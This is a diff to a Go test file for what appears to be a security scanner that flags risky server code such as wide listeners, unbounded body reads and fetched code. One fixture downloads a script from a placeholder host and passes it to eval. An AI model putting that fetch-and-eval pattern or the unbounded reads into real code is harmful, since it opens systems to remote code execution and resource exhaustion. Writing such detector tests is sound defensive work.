@@ -137,6 +137,12 @@ func TestSites(t *testing.T) {
 		{"an application for all addresses", "a.ts", strings.Replace(fmt.Sprintf(tsServer, "", "", `app.listen(3000, "0.0.0.0");`), "= express()", `= createMcpExpressApp({ host: "0.0.0.0" })`, 1), "open_listener wide_listener"},
 		{"an application with a list", "a.ts", strings.Replace(fmt.Sprintf(tsServer, "", "", `app.listen(3000, "0.0.0.0");`), "= express()", `= createMcpExpressApp({ host: "0.0.0.0", allowedHosts: ["mcp.example.org"] })`, 1), ""},
 		{"go", "a.go", fmt.Sprintf(goServer, "127.0.0.1:8080", ""), "open_listener"},
+		{"a body that is collected", "a.ts", fmt.Sprintf(tsServer, `app.post("/hook", (req, res) => { let body = ""; req.on("data", (c) => { body += c; }); req.on("end", () => res.json(body)); });`, "", ""), "unbounded_read"},
+		{"a body that is counted", "a.ts", fmt.Sprintf(tsServer, `app.post("/hook", (req, res) => { let body = ""; req.on("data", (c) => { body += c; if (body.length > 1e6) req.destroy(); }); req.on("end", () => res.json(body)); });`, "", ""), ""},
+		{"what a program prints", "a.ts", fmt.Sprintf(tsServer, `function run(child, done) { let out = ""; child.on("data", (c) => { out += c; }); done(out); }`, "", ""), ""},
+		{"go reads a body", "a.go", fmt.Sprintf(goServer, "127.0.0.1:8080", `if r.Host != "localhost" { http.Error(w, "no", http.StatusForbidden); return }; io.ReadAll(r.Body)`), "unbounded_read"},
+		{"go reads a bounded body", "a.go", fmt.Sprintf(goServer, "127.0.0.1:8080", `if r.Host != "localhost" { http.Error(w, "no", http.StatusForbidden); return }; r.Body = http.MaxBytesReader(w, r.Body, 1<<20); io.ReadAll(r.Body)`), ""},
+		{"runs what a helper fetched", "a.js", fmt.Sprintf(jsServer, `async function load() { return await (await fetch("https://a.example/x.js")).text(); } const code = await load(); eval(code);`), "fetched_code"},
 		{"go on all addresses", "a.go", fmt.Sprintf(goServer, ":8080", ""), "open_listener wide_listener"},
 		{"go with a guard", "a.go", fmt.Sprintf(goServer, "127.0.0.1:8080", `if r.Host != "localhost" { http.Error(w, "no", http.StatusForbidden); return }`), ""},
 	} {
